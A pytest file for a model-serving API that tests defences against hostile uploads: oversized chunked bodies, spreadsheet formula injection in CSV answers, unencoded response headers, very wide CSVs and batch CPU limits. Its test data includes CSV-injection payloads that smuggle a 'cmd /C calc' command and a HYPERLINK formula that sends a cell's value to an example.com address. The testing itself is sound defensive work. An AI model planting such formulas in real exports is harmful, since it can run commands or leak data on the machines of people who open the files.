"""Hostile bodies (issue 14, items 2, 6, 7, 8): a body over its limit is refused however it
is framed; CSV answers never start a cell with a formula; client text in a response header
is encoded; a wide CSV costs little and a batch has a CPU budget."""

from __future__ import annotations

import csv
import http.client
import io
import json
import time
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pandas as pd
import pytest
import requests

from serving.batch import render, rows
from serving.batch.budget import CpuBudget
from serving.batch.core import Results
from serving.batch.files import CsvReader
from serving.errors import InvalidInput, PayloadTooLarge, detail
from serving.store.tables import Prediction
from tests.conftest import REPO_ROOT, fit_tiny_regression, make_app
from tests.live import gunicorn
from tests.samples import PASSENGER

TITANIC = REPO_ROOT / "data" / "titanic.csv"
CSV = {"Content-Type": "text/csv"}
CSV_BOTH = {"Content-Type": "text/csv", "Accept": "text/csv"}


def titanic_csv(n: int, prefix: str = "p") -> bytes:
    """`n` Titanic passengers (repeated as needed), each with an id of its own."""
    frame = pd.read_csv(TITANIC).rename(columns={"PassengerId": "id"})
    frame = pd.concat([frame] * (n // len(frame) + 1), ignore_index=True).head(n)
    frame["id"] = [f"{prefix}{i}" for i in range(n)]
    return frame.to_csv(index=False).encode()


def stored(database_url: str, tmp_path: Path) -> int:
    """How many predictions the database holds (read through an app of its own)."""
    app = make_app(database_url, tmp_path / "no-models")
    with app.app_context():
        count = Prediction.select().count()
    from serving.store.database import close_all

    close_all()
    return count


def chunked(url: str, path: str, body: bytes, headers: dict[str, str]) -> tuple[int, bytes]:
    """POST `body` with `Transfer-Encoding: chunked` (no Content-Length), as curl -T- does."""
    parts = urlsplit(url)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=60)
    try:
        connection.putrequest("POST", path)
        for name, value in {**headers, "Transfer-Encoding": "chunked"}.items():
            connection.putheader(name, value)
        connection.endheaders()
        for start in range(0, len(body), 8192):
            piece = body[start : start + 8192]
            connection.send(b"%x\r\n%s\r\n" % (len(piece), piece))
        connection.send(b"0\r\n\r\n")
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


def multipart(data: bytes, filename: str = "passengers.csv") -> tuple[bytes, dict[str, str]]:
    """A multipart body with `data` as its field `file`."""
    boundary = "hostile-boundary"
    body = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; '
            f'filename="{filename}"\r\nContent-Type: text/csv\r\n\r\n'
        ).encode()
        + data
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return body, {"Content-Type": f"multipart/form-data; boundary={boundary}"}


def predict_body(observation_id: str, size: int) -> bytes:
    """A valid /predict body padded with spaces (valid JSON whitespace) to `size` bytes."""
    body = json.dumps({"id": observation_id, "observation": PASSENGER}).encode()
    return body + b" " * (size - len(body))


# Item 2: a body over its limit is 413 with nothing stored, however it is framed.


@pytest.mark.any_database
@pytest.mark.e2e
def test_chunked_bodies_over_their_limit_are_413_through_gunicorn(database_url, tmp_path):
    env = {
        "MAX_BATCH_BODY_BYTES": "60000",
        "MAX_BODY_BYTES": "2000",
        "MODELS_DIR": str(tmp_path / "none"),
    }
    over = titanic_csv(900, "over")  # about 66 kB, above the 60,000-byte batch limit
    under = titanic_csv(300, "under")
    assert len(over) > 60_000 > len(under)
    with gunicorn(database_url, tmp_path, workers=1, env=env) as server:
        status, answer = chunked(server.url, "/predict/batch", over, CSV)
        assert status == 413, answer
        assert "MAX_BATCH_BODY_BYTES" in json.loads(answer)["error"]
        body, headers = multipart(over)
        status, answer = chunked(server.url, "/predict/batch", body, headers)
        assert status == 413 and "MAX_BATCH_BODY_BYTES" in json.loads(answer)["error"]
        # Valid JSON then spaces: one byte over MAX_BODY_BYTES is refused, at the limit read.
        status, answer = chunked(server.url, "/predict", predict_body("spaces", 2001), {})
        assert status == 413 and "MAX_BODY_BYTES" in json.loads(answer)["error"]
        assert chunked(server.url, "/predict", predict_body("at-limit", 2000), {})[0] == 200
        # A chunked body within its limit is read whole: every row stored.
        status, answer = chunked(server.url, "/predict/batch", under, CSV)
        assert status == 200 and json.loads(answer)["counts"]["stored"] == 300
        # The connection and the worker are still fine after the refusals.
        assert requests.get(f"{server.url}/health", timeout=5).status_code == 200
    assert stored(database_url, tmp_path) == 301


@pytest.mark.any_database
def test_a_body_framed_by_the_server_is_refused_one_byte_past_its_limit(database_url, tmp_path):
    # The Flask test client does not frame like a server; this is what gunicorn hands over
    # for a chunked body: no Content-Length, a stream the server ends.
    app = make_app(
        database_url, tmp_path / "none", max_body_bytes=2000, max_batch_body_bytes=60_000
    )
    client = app.test_client()
    chunked_environ = {"wsgi.input_terminated": True}

    def post(path: str, body: bytes, **headers: str):
        return client.post(
            path,
            input_stream=io.BytesIO(body),
            headers={**headers, "Transfer-Encoding": "chunked"},
            environ_overrides=chunked_environ,
        )

    answer = post("/predict", predict_body("spaces", 2001))
    assert answer.status_code == 413 and "MAX_BODY_BYTES" in answer.get_json()["error"]
    assert post("/predict", predict_body("ok", 2000)).status_code == 200
    answer = post("/predict/batch", titanic_csv(900), **CSV)
    assert answer.status_code == 413
    body, headers = multipart(titanic_csv(900))
    assert post("/predict/batch", body, **headers).status_code == 413
    assert post("/predict/batch", titanic_csv(300), **CSV).get_json()["counts"]["stored"] == 300
    with app.app_context():
        assert Prediction.select().count() == 301


# Item 6: no cell of a CSV answer starts a formula.

FORMULAS = [
    "=1+2",
    "+SUM(A1:A2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "\uff1d1+1",
]


# OWASP's list, and the full-width forms some spreadsheets also read.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and not _is_number(cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.any_database
def test_formula_ids_come_back_quoted_in_csv_answers(client):
    batch = [{"id": formula, "observation": PASSENGER} for formula in FORMULAS]
    batch.append({"id": "=bad-row", "observation": {**PASSENGER, "Pclass": "=1+1"}})
    batch.append({"id": -5, "observation": PASSENGER})
    batch.append({"id": "-7", "observation": PASSENGER})
    answer = client.post("/predict/batch", json=batch, headers={"Accept": "text/csv"})
    assert answer.status_code == 200
    lines = list(csv.reader(io.StringIO(answer.get_data(as_text=True))))[1:]
    cells = [cell for line in lines for cell in line]
    assert not [cell for cell in cells if _formula(cell)]
    # OWASP's advice: a single quote before the formula, which a spreadsheet shows as text.
    assert [line[0] for line in lines[: len(FORMULAS)]] == [f"'{f}" for f in FORMULAS]
    assert lines[len(FORMULAS)][0] == "'=bad-row" and lines[len(FORMULAS)][1] == "422"
    # Numbers are not formulas: a negative id comes back as sent.
    assert [line[0] for line in lines[-2:]] == ["-5", "-7"]
    # The JSON answer and the stored ids are the client's own, unquoted.
    as_json = client.post("/predict/batch", json=batch).get_json()
    assert [r["observation_id"] for r in as_json["results"][: len(FORMULAS)]] == FORMULAS


def test_every_cell_of_client_text_is_quoted_warnings_and_errors_too():
    # Warnings and details start with our field names today; whatever starts them later,
    # the cell is neutralised, as is a line end inside it.
    batch = rows.JsonRows(
        ids=["=a", "@b"],
        keys=["=a", "@b"],
        errors={1: InvalidInput("=HYPERLINK(1)", [detail("-field", "=2+5")])},
    )
    results = Results.empty("default", batch)
    results.warnings[0] = [detail("+warning", "=1+1\r=2")]
    text = render.csv_text(results.record(None), render.csv_columns([]), header=True)
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[1][0] == "'=a" and lines[1][-3] == "'+warning: =1+1\r=2"
    assert lines[2][0] == "'@b" and lines[2][-2:] == ["'=HYPERLINK(1)", "'-field: =2+5"]
    assert not [cell for line in lines for cell in line if _formula(cell)]


def test_negative_numbers_are_numbers_and_stay_as_they_are(database_url, tmp_path):
    fit_tiny_regression(
        tmp_path / "models" / "line" / "1", version="1", initial_status="production"
    )
    client = make_app(database_url, tmp_path / "models").test_client()
    text = "id,x,k,color\n-1,-3.5,0,red\n=2,-3.5,0,red\n"
    answer = client.post("/api/v1/line/predict/batch", data=text, headers=CSV_BOTH)
    lines = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
    assert [line["id"] for line in lines] == ["-1", "'=2"]
    # A regression's negative prediction is a number the spreadsheet reads as one.
    assert float(lines[0]["prediction"]) < 0 and not lines[0]["prediction"].startswith("'")
    assert [render.safe_cell(t) for t in ("-12", "+1.5e3", "-.5", "-1-1", "-")] == [
        "-12",
        "+1.5e3",
        "-.5",
        "'-1-1",
        "'-",
    ]


# Item 7: client text in a response header is encoded; the answer and the log agree.

ODD_NAMES = ["Montant (€)", "名前", "a\nb", "100%"]


@pytest.mark.any_database
def test_csv_column_names_reach_the_warnings_header_encoded(client):
    frame = pd.read_csv(io.BytesIO(titanic_csv(3, "odd")))
    for name in ODD_NAMES:
        frame[name] = 1
    answer = client.post("/predict/batch", data=frame.to_csv(index=False), headers=CSV_BOTH)
    assert answer.status_code == 200, answer.get_data(as_text=True)
    value = answer.headers["X-Batch-Warnings"]
    assert value.isascii() and "\n" not in value and "\r" not in value
    for name in ODD_NAMES:
        assert f"{name}: unknown column, ignored" in unquote(value)
    assert answer.headers["X-Batch-Stored"] == "3"


@pytest.mark.any_database
def test_a_huge_warnings_header_is_cut(client):
    answer = client.post("/predict/batch", data=wide_csv(900, 2), headers=CSV_BOTH)
    assert answer.status_code == 200
    value = answer.headers["X-Batch-Warnings"]
    # Proxies commonly refuse header lines past 8 kB.
    assert len(value) <= 8000 and value.endswith("more")


@pytest.mark.e2e
def test_odd_column_names_through_gunicorn_answer_as_logged(database_url, tmp_path):
    env = {"MODELS_DIR": str(tmp_path / "none")}
    with gunicorn(database_url, tmp_path, workers=1, env=env) as server:
        statuses = []
        for k, name in enumerate(["Montant (€)", "名前"]):
            frame = pd.read_csv(io.BytesIO(titanic_csv(3, f"odd{k}-")))
            frame[name] = 1
            answer = requests.post(
                f"{server.url}/predict/batch",
                data=frame.to_csv(index=False).encode(),
                headers=CSV_BOTH,
                timeout=30,
            )
            statuses.append(answer.status_code)
            assert answer.status_code == 200, answer.text
            assert name in unquote(answer.headers["X-Batch-Warnings"])
        time.sleep(0.5)
        logged = [
            json.loads(line)["status"]
            for line in server.log().splitlines()
            if line.startswith("{") and '"path": "/predict/batch"' in line
        ]
    assert logged == statuses
    assert stored(database_url, tmp_path) == 6


# Item 8: a wide CSV is refused at once; header checks are linear; batches have a budget.


def wide_csv(unknown: int, rows_: int = 1) -> bytes:
    """Titanic rows plus `unknown` columns no model reads."""
    frame = pd.read_csv(TITANIC).rename(columns={"PassengerId": "id"}).head(rows_)
    head = [*frame.columns, *(f"u{i}" for i in range(unknown))]
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(head)
    for values in frame.astype(object).where(frame.notna(), "").itertuples(index=False):
        writer.writerow([*values, *(["1"] * unknown)])
    return out.getvalue().encode()


@pytest.mark.any_database
def test_thirty_thousand_columns_are_413_at_once(app, client):
    body = wide_csv(30_000)
    started = time.process_time()
    answer = client.post("/predict/batch", data=body, headers=CSV)
    spent = time.process_time() - started
    assert answer.status_code == 413, answer.get_data(as_text=True)[:300]
    assert "MAX_BATCH_COLUMNS" in answer.get_json()["error"]
    assert answer.get_json()["details"] == [{"field": "columns", "problem": "at most 1000"}]
    assert spent < 2, spent
    with app.app_context():
        assert Prediction.select().count() == 0


@pytest.mark.any_database
def test_the_column_limit_is_a_setting_and_unknown_columns_are_dropped(database_url, tmp_path):
    client = make_app(database_url, tmp_path / "none", max_batch_columns=40).test_client()
    assert client.post("/predict/batch", data=wide_csv(29), headers=CSV).status_code == 413
    answer = client.post("/predict/batch", data=wide_csv(28, 5), headers=CSV)
    assert answer.status_code == 200 and answer.get_json()["counts"]["stored"] == 5
    assert {"field": "u27", "problem": "unknown column, ignored"} in answer.get_json()["warnings"]
    # Columns no model reads leave the frame as soon as the records are read.
    batch = rows.from_csv(wide_csv(28, 5), 10, keep={"Age", "Sex"})
    assert list(batch.frame.columns) == ["id", "Sex", "Age"]
    assert "u27" in [w["field"] for w in batch.ignored([])]


def test_header_checks_are_linear_in_the_number_of_columns():
    names = [f"c{i}" for i in range(60_000)]
    started = time.process_time()
    assert rows.parse_header(",".join(names).encode()) == names
    with pytest.raises(Exception, match="name of its own") as refused:
        rows.parse_header(",".join([*names, "c7", "c9", "c7"]).encode())
    assert time.process_time() - started < 1.5
    assert [d["field"] for d in refused.value.details] == ["c7", "c9"]
    with pytest.raises(PayloadTooLarge, match="MAX_BATCH_COLUMNS"):
        rows.parse_header(",".join(names).encode(), max_columns=1000)


def test_a_header_of_many_quoted_line_ends_is_found_in_linear_time():
    head = b'id,"' + b"\n" * 300_000 + b'"\n'
    started = time.process_time()
    assert rows.split_header(head + b"1,2\n") == (head, b"1,2\n")
    assert time.process_time() - started < 1


def test_flask_score_reads_a_wide_header_in_linear_time(tmp_path):
    source = tmp_path / "wide.csv"
    source.write_bytes(wide_csv(60_000))
    started = time.process_time()
    reader = CsvReader(source)
    assert time.process_time() - started < 2
    assert len(reader.header) == 60_012


def test_a_batch_over_its_cpu_budget_is_413_with_nothing_stored(database_url, tmp_path):
    app = make_app(database_url, tmp_path / "none", batch_cpu_seconds=1e-9)
    client = app.test_client()
    for body, headers in [
        (titanic_csv(50), CSV),
        (json.dumps([{"id": 1, "observation": PASSENGER}]).encode(), {}),
    ]:
        answer = client.post("/predict/batch", data=body, headers=headers)
        assert answer.status_code == 413, answer.get_data(as_text=True)
        assert "BATCH_CPU_SECONDS" in answer.get_json()["error"]
    with app.app_context():
        assert Prediction.select().count() == 0
    # Single predictions have no such budget, and 0 turns it off.
    assert client.post("/predict", json={"id": 2, "observation": PASSENGER}).status_code == 200
    unlimited = make_app(database_url, tmp_path / "none", batch_cpu_seconds=0).test_client()
    assert unlimited.post("/predict/batch", data=titanic_csv(50), headers=CSV).status_code == 200


def test_the_budget_counts_cpu_seconds_and_names_the_stage():
    now = [10.0]
    budget = CpuBudget(2.0, clock=lambda: now[0])
    now[0] = 11.9
    budget.check("reading")
    now[0] = 12.5
    with pytest.raises(PayloadTooLarge) as refused:
        budget.check("scoring")
    assert refused.value.details[0]["problem"] == "2.5 CPU seconds spent by the end of scoring"
